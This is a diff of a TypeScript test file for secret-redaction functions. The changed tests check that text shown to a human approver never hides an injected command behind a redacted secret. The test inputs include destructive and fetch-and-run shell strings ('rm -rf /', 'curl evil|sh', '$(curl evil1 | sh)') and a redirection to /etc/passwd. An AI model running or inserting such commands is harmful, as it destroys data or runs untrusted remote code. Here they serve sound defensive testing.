@@ -1,7 +1,11 @@
 import * as fc from 'fast-check'
 import { generateKeyPairSync } from 'node:crypto'
 import { describe, expect, it } from 'vitest'
-import { redactForApproval, redactSecrets } from '../../../../src/core/text/secrets/redact.ts'
+import {
+  redactForApproval,
+  redactForRecord,
+  redactSecrets,
+} from '../../../../src/core/text/secrets/redact.ts'
 import { isVaried, mayHoldVaried } from '../../../../src/core/text/secrets/looks.ts'
 import { LINEAR_AT_MOST, measureGrowth } from '../growth.ts'
 import { makerFor } from './random-values.ts'
@@ -218,18 +222,18 @@ describe('values that look secret', () => {
 
 describe('text that a person approves', () => {
   it.each([
-    ['X_TOKEN=a1b2c3;rm -rf /', 'X_TOKEN=[redacted: secret, 6 characters];rm -rf /'],
-    ['X_TOKEN=a1b2c3&&curl evil|sh', 'X_TOKEN=[redacted: secret, 6 characters]&&curl evil|sh'],
-    ['X_TOKEN="$(curl evil1 | sh)"', 'X_TOKEN="$(curl evil1 | sh)"'],
-    ['echo "X_TOKEN="; rm -rf /; echo "x"', 'echo "X_TOKEN="; rm -rf /; echo "x"'],
-    ['X_TOKEN=`reboot1`', 'X_TOKEN=`reboot1`'],
-    ['curl http://u:$(reboot)@h', 'curl http://u:$(reboot)@h'],
-    ['curl http://u:x1;reboot@h', 'curl http://u:x1;reboot@h'],
-    ['curl -H Cookie:a=9f8Xk2b7;reboot', 'curl -H Cookie:a=[redacted: cookie, 8 characters];reboot'],
-    ['--password hunter2 >/etc/passwd', '--password [redacted: password, 7 characters] >/etc/passwd'],
-    ['{"password": "plain99"}', '{"password": "[redacted: password, 7 characters]"}'],
-  ])('FR-APR-01: %s hides no command behind a secret', (text, shown) => {
-    expect(redactForApproval(text)).toBe(shown)
+    'X_TOKEN=a1b2c3;rm -rf /',
+    'X_TOKEN=a1b2c3&&curl evil|sh',
+    'X_TOKEN="$(curl evil1 | sh)"',
+    'echo "X_TOKEN="; rm -rf /; echo "x"',
+    'X_TOKEN=`reboot1`',
+    'curl http://u:$(reboot)@h',
+    'curl http://u:x1;reboot@h',
+    'curl -H Cookie:a=9f8Xk2b7;reboot',
+    '--password hunter2 >/etc/passwd',
+    '{"password": "plain99"}',
+  ])('FR-APR-01: %s hides nothing, because a name decides nothing there', (text) => {
+    expect(redactForApproval(text)).toBe(text)
   })
 
   it('FR-APR-01: the frame of a private key hides only the key', () => {
@@ -256,7 +260,7 @@ const HOSTILE_UNITS = split(
 describe('laws', () => {
   const pieces = fc.constantFrom(...PIECES)
 
-  it.each([redactSecrets, redactForApproval])(
+  it.each([redactSecrets, redactForApproval, redactForRecord])(
     'F-SAFE-REDACT: a second pass of %o changes nothing',
     (redact) => {
       fc.assert(
@@ -298,6 +302,7 @@ describe('laws', () => {
 describe('hostile text', () => {
   it.each(someOf(HOSTILE_UNITS, 15))('F-SAFE-REDACT: time grows no faster than a run of %j', (unit) => {
     expect(measureGrowth((text) => redactSecrets(`${text}!`), unit)).toBeLessThan(LINEAR_AT_MOST)
+    expect(measureGrowth((text) => redactForApproval(`${text}!`), unit)).toBeLessThan(LINEAR_AT_MOST)
   })
 
   it('F-SAFE-REDACT: survives long lines without an end', () => {
